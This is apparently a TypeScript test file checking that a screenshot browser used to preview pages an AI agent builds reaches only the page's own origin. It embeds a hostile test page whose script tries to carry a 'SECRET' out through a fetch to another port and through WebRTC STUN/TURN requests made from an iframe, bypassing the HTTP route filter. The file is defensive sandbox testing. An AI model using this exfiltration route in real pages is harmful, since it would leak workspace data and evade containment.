// The screenshot browser reaches the page's own origin and nothing else (SPEC §6): not over HTTP
// (the route filter), and not over what that filter never sees — WebRTC's UDP (STUN/TURN) and the
// resolver (DNS prefetch). A page of the agent's making must not carry the workspace out this way.
import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumAvailable, createChromiumCapture } from '../../../src/main/preview/chromiumCapture';

let udp: dgram.Socket;
const datagrams: string[] = [];
let other: http.Server;
const otherHits: string[] = [];

beforeAll(async () => {
  udp = dgram.createSocket('udp4');
  udp.on('message', (message) => datagrams.push(message.toString('latin1')));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  other = http.createServer((req, res) => {
    otherHits.push(req.url ?? '');
    res.end('x');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
});

afterAll(() => {
  udp.close();
  other.close();
});

describe.skipIf(!chromiumAvailable())('the screenshot browser’s network', () => {
  it('sends no STUN or TURN packet (not even from a frame’s own realm) and fetches nothing off the page’s origin', async () => {
    const udpPort = (udp.address() as AddressInfo).port;
    const otherPort = (other.address() as AddressInfo).port;
    const page = `<!doctype html><body><h1>exfil</h1><script>
      fetch('http://127.0.0.1:${otherPort}/fetch-SECRET').catch(() => {});
      const frame = document.body.appendChild(document.createElement('iframe'));
      const Peer = window.RTCPeerConnection || frame.contentWindow.RTCPeerConnection || frame.contentWindow.webkitRTCPeerConnection;
      try {
        const pc = new Peer({ iceServers: [
          { urls: 'stun:127.0.0.1:${udpPort}' },
          { urls: 'turn:127.0.0.1:${udpPort}?transport=udp', username: 'SECRET-from-workspace', credential: 'c' },
        ] });
        pc.createDataChannel('d');
        pc.createOffer().then((offer) => pc.setLocalDescription(offer));
      } catch (error) { document.title = String(error); }
      </script><img src="/slow.png"></body>`;
    const app = http.createServer((req, res) => {
      // Holds the load event open while the page's ICE gathering would run.
      if (req.url === '/slow.png') return void setTimeout(() => res.writeHead(404).end(), 2_000);
      res.writeHead(200, { 'content-type': 'text/html' }).end(page);
    });
    await new Promise<void>((resolve) => app.listen(0, '127.0.0.1', resolve));
    try {
      const png = await createChromiumCapture()(`http://127.0.0.1:${(app.address() as AddressInfo).port}/`, {
        width: 320,
        height: 200,
      });
      expect(png.subarray(1, 4).toString()).toBe('PNG');
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      expect(datagrams).toEqual([]);
      expect(otherHits).toEqual([]);
    } finally {
      app.close();
    }
  }, 60_000);
});
